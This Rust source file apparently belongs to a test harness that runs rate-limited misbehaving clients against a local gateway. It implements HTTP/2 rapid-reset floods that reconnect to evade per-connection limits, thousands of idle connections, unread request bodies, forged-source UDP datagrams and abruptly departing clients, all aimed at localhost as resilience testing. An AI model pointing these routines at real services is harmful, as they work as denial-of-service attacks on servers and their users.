//! Misbehaving clients with limited rate and number. They write prepared bytes, so that an attack
//! costs little on the core of the load.

use super::frames::{
    self, DATA, END_HEADERS, FRAME_BYTES_MAX, HEADERS, Head, PREFACE, RST_STREAM, SETTINGS,
    WINDOW_UPDATE,
};
use super::{Attack, Listen};
use crate::shell;
use rustix::net::sockopt::set_socket_linger;
use std::collections::VecDeque;
use std::io::{ErrorKind, Read, Result, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

/// Interval between bursts of attacks. With the burst sizes below, there are one or two thousand
/// attacks per second.
const BURST_INTERVAL: Duration = Duration::from_millis(10);
/// Number of cancelled requests per burst.
const RESETS_PER_BURST: u32 = 10;
/// Number of requests after which the attacker reconnects, so that limits per connection do not
/// stop it.
const RESETS_PER_CONNECTION: u32 = 900;
/// Number of idle connections, which once was enough to block the port. Beyond it, the oldest
/// connection is closed for each new one.
const SILENT_CONNECTIONS: usize = 4_116;
const SILENT_PER_BURST: usize = 20;
/// Load of the unread bodies: number of connections, streams per connection, and bytes per stream.
const UNREAD_CONNECTIONS: usize = 40;
const UNREAD_STREAMS: u32 = 128;
const UNREAD_BYTES: usize = 64_000;
const DATAGRAMS_PER_BURST: u16 = 20;
const DEPARTED_PER_BURST: usize = 5;
/// Number of clients per burst that stay idle instead of disconnecting.
const SILENT_OF_DEPARTED: usize = 1;

/// Runs the attack until `is_over` is set; returns the number of attacks.
pub(super) fn run(attack: Attack, ports: Listen, is_over: &AtomicBool) -> u64 {
    match attack {
        Attack::ResetsOverSharedConnection => resets(ports.http, "/shared", is_over),
        Attack::ResetsWhileOpening => resets(ports.http, "/opening", is_over),
        Attack::SilentTls => silent(ports.https, is_over),
        Attack::UnreadBodies => unread(ports.http, is_over),
        Attack::ForgedDatagrams => datagrams(ports.stream_udp, is_over),
        Attack::DepartedClients => departed(ports.http, is_over),
    }
}

/// Calls `burst` every [`BURST_INTERVAL`] until `is_over` is set. Each call returns its number of
/// attacks; their sum is returned.
fn bursts(is_over: &AtomicBool, mut burst: impl FnMut() -> u64) -> u64 {
    let mut acts = 0;
    while !is_over.load(Ordering::Relaxed) {
        acts += burst();
        shell::pause(BURST_INTERVAL);
    }
    acts
}

fn connect(port: u16) -> Result<TcpStream> {
    let stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
    stream.set_nonblocking(true)?;
    stream.set_nodelay(true)?;
    Ok(stream)
}

/// Opens an HTTP/2 connection and acknowledges the settings without reading them.
fn connect_http2(port: u16) -> Result<TcpStream> {
    let mut stream = connect(port)?;
    let mut hello = PREFACE.to_vec();
    Head::new(SETTINGS, 0, 0).write(&[], &mut hello);
    Head::new(SETTINGS, frames::ACK, 0).write(&[], &mut hello);
    stream.write_all(&hello)?;
    Ok(stream)
}

/// Discards received data; an error means that the connection has ended.
fn drain(stream: &mut TcpStream) -> Result<()> {
    let mut bytes = [0; FRAME_BYTES_MAX];
    loop {
        match stream.read(&mut bytes) {
            Ok(0) => return Err(ErrorKind::UnexpectedEof.into()),
            Ok(_) => {}
            Err(error) if error.kind() == ErrorKind::WouldBlock => return Ok(()),
            Err(error) => return Err(error),
        }
    }
}

fn resets(port: u16, path: &str, is_over: &AtomicBool) -> u64 {
    let mut connection: Option<(TcpStream, u32)> = None;
    let block = frames::request_block(path);
    bursts(is_over, || {
        let taken = connection.take().filter(|(_, streams)| *streams < RESETS_PER_CONNECTION);
        let Ok((mut stream, streams)) =
            taken.map_or_else(|| connect_http2(port).map(|it| (it, 0)), Ok)
        else {
            return 0;
        };
        // All requests precede all resets, so that each request has reached its node, or waits for
        // a connection to it, when it is reset.
        let ids = (streams..streams + RESETS_PER_BURST).map(|number| 2 * number + 1);
        let (mut requests, mut resets) = (Vec::new(), Vec::new());
        for id in ids {
            Head::new(HEADERS, END_HEADERS, id).write(&block, &mut requests);
            Head::new(RST_STREAM, 0, id).write(&8_u32.to_be_bytes(), &mut resets);
        }
        let sent = stream.write_all(&requests).and_then(|()| {
            shell::pause(BURST_INTERVAL / 4);
            stream.write_all(&resets)?;
            drain(&mut stream)
        });
        if sent.is_ok() {
            connection = Some((stream, streams + RESETS_PER_BURST));
        }
        u64::from(RESETS_PER_BURST)
    })
}

fn silent(port: u16, is_over: &AtomicBool) -> u64 {
    let mut connections = VecDeque::new();
    let mut fill = |count: usize| {
        let opened = (0..count).filter_map(|_| connect(port).ok());
        connections.extend(opened);
        while connections.len() > SILENT_CONNECTIONS {
            connections.pop_front();
        }
        count as u64
    };
    let first = fill(SILENT_CONNECTIONS);
    first + bursts(is_over, || fill(SILENT_PER_BURST))
}

fn unread(port: u16, is_over: &AtomicBool) -> u64 {
    let block = frames::request_block("/silent");
    let piece = vec![b'x'; UNREAD_BYTES / 4];
    let mut connections = Vec::new();
    let mut open = || -> Result<u64> {
        let mut stream = connect_http2(port)?;
        let mut bytes = Vec::new();
        // Allows the gateway to send 16 MiB more on this connection.
        Head::new(WINDOW_UPDATE, 0, 0).write(&0x00ff_ffff_u32.to_be_bytes(), &mut bytes);
        for number in 0..UNREAD_STREAMS {
            let id = 2 * number + 1;
            Head::new(HEADERS, END_HEADERS, id).write(&block, &mut bytes);
        }
        stream.write_all(&bytes)?;
        for number in 0..UNREAD_STREAMS {
            let mut data = Vec::new();
            for _ in 0..4 {
                Head::new(DATA, 0, 2 * number + 1).write(&piece, &mut data);
            }
            // An error ends the burst, because the gateway may refuse more data.
            if stream.write_all(&data).is_err() {
                break;
            }
        }
        connections.push(stream);
        Ok(u64::from(UNREAD_STREAMS))
    };
    let opened: u64 = (0..UNREAD_CONNECTIONS).map(|_| open().unwrap_or(0)).sum();
    opened
        + bursts(is_over, || {
            connections.retain_mut(|stream| drain(stream).is_ok());
            0
        })
}

fn datagrams(port: u16, is_over: &AtomicBool) -> u64 {
    let mut number: u16 = 0;
    bursts(is_over, || {
        let mut sent = 0;
        for _ in 0..DATAGRAMS_PER_BURST {
            number = number.wrapping_add(1);
            let [high, low] = number.to_be_bytes();
            // All addresses of this network belong to this machine.
            let source = SocketAddr::from((Ipv4Addr::new(127, 9, high, low), 0));
            let socket = UdpSocket::bind(source);
            let done = socket.and_then(|it| it.send_to(b"x", (Ipv4Addr::LOCALHOST, port)));
            sent += u64::from(done.is_ok());
        }
        sent
    })
}

fn departed(port: u16, is_over: &AtomicBool) -> u64 {
    let mut silent = VecDeque::new();
    bursts(is_over, || {
        for number in 0..DEPARTED_PER_BURST {
            let Ok(mut stream) = connect(port) else { continue };
            if number < SILENT_OF_DEPARTED {
                silent.push_back(stream);
                if silent.len() > SILENT_CONNECTIONS {
                    silent.pop_front();
                }
                continue;
            }
            let asked = stream.write_all(b"GET /silent HTTP/1.1\r\nHost: localhost\r\n\r\n");
            // Half of the clients close with a reset, the others in order.
            if asked.is_ok() && number % 2 == 0 {
                let _ = set_socket_linger(&stream, Some(Duration::ZERO));
            }
        }
        DEPARTED_PER_BURST as u64
    })
}
